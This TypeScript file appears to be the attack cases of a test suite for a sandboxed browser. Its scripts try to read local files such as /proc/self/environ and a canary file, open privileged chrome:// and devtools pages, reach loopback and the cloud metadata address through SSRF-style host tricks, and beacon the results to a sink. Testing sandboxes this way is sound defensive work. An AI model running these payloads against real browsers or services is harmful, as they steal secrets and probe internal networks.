import { type Attack, createScriptAttacks } from './attack.ts'

const addresses = [
  ...[
    'file:///mnt/canary',
    'file:///etc/hostname',
    'file:///proc/self/environ',
    'file://localhost/guard/args',
    'file:///',
  ],
  ...['view-source:file:///mnt/canary', 'chrome://version', 'chrome://gpu', 'chrome://inspect', 'chrome://crash'],
  ...['chrome://kill', 'chrome://hang', 'chrome://quit', 'devtools://devtools/bundled/inspector.html', 'about:crash'],
  ...[
    'chrome-untrusted://print',
    'chrome-extension://a/a.html',
    'filesystem:http://10.66.0.1/temporary/a',
    'ftp://127.0.0.1/',
  ],
  ...[
    'intent://a#Intent;scheme=http;end',
    'mailto:a@example.com',
    'ssh://127.0.0.1',
    'javascript:fetch("http://127.0.0.1")',
  ],
  ...[
    'data:text/html,<script>fetch("file:///mnt/canary")</script>',
    'isolated-app://a/',
    'externalfile:a',
    'smb://10.0.0.1/a',
  ],
]
const setup = `const addresses = ${JSON.stringify(addresses)}
const send = (text) => navigator.sendBeacon('/sink', text)`

const hosts = {
  loopback: '127.0.0.1:8080',
  metadata: '169.254.169.254',
  name: '7f000001.leads.test',
  ipv6: '[::1]',
  credentials: 'user:word@127.0.0.1',
  path: '../../@127.0.0.1/',
  file: 'file:///mnt/canary#',
}

/** Files of the machine, and addresses that mean something to the browser itself. */
export const schemeAttacks: Attack[] = [
  ...createScriptAttacks({
    'scheme-fetch': `${setup}; for (const address of addresses) fetch(address).then((answer) => answer.text()).then(send).catch(() => 0)`,
    'scheme-xhr': `${setup}; for (const address of addresses) try { const request = new XMLHttpRequest(); request.onload = () => send(request.responseText); request.open('GET', address); request.send() } catch {}`,
    'scheme-frames': `${setup}; for (const address of addresses) { const frame = document.createElement('iframe'); frame.src = address; frame.onload = () => { try { send(frame.contentDocument.documentElement.outerHTML) } catch {} }; document.body.append(frame) }`,
    'scheme-windows': `${setup}; for (const address of addresses) try { open(address); open(address, '_blank', 'noopener') } catch {}`,
    'scheme-links': `${setup}; for (const address of addresses) { const link = document.createElement('a'); link.href = address; link.download = ''; document.body.append(link); link.click() }`,
    'scheme-scripts': `${setup}; for (const address of addresses) for (const tag of ['script', 'img', 'embed', 'video']) { const element = document.createElement(tag); element.src = address; document.body.append(element) }`,
    'scheme-workers': `${setup}; for (const address of addresses) try { new Worker(address) } catch {}`,
    'scheme-blob': `const page = URL.createObjectURL(new Blob(['<script>for (const at of ["file:///mnt/canary", "http://127.0.0.1/"]) fetch(at, { mode: "no-cors" })</' + 'script>'], { type: 'text/html' })); const frame = document.createElement('iframe'); frame.src = page; document.body.append(frame); setTimeout(() => { location = page }, 300)`,
    'scheme-document': `document.body.innerHTML = '<object data="file:///mnt/canary"></object><link rel="import" href="file:///mnt/canary"><iframe src="view-source:file:///mnt/canary"></iframe>'`,
    'local-fonts': `queryLocalFonts?.().then((fonts) => fonts.forEach((font) => font.blob().then((data) => navigator.sendBeacon('/sink', data)))).catch(() => 0); showOpenFilePicker?.().catch(() => 0)`,
    'directory-picker': `showDirectoryPicker?.().catch(() => 0); const input = document.createElement('input'); input.type = 'file'; input.webkitdirectory = true; document.body.append(input); input.click(); input.showPicker?.()`,
  }),
  // The page redirects, because its owner could not have entered these addresses.
  ...Object.entries(hosts).map(([what, host]) => ({
    name: `scenario-opens-${what}`,
    html: `<p id="host">${host}</p>`,
    steps: [
      { name: 'Read', actions: [{ open: '/' }, { read: { selector: '#host', variable: 'host' } }] },
      { name: 'Open', actions: [{ open: 'http://{{host}}/' }, { read: { selector: 'body', variable: 'text' } }] },
      { name: 'Send', cleanup: true, actions: [{ open: '/sink?text={{text}}' }] },
    ],
  })),
]
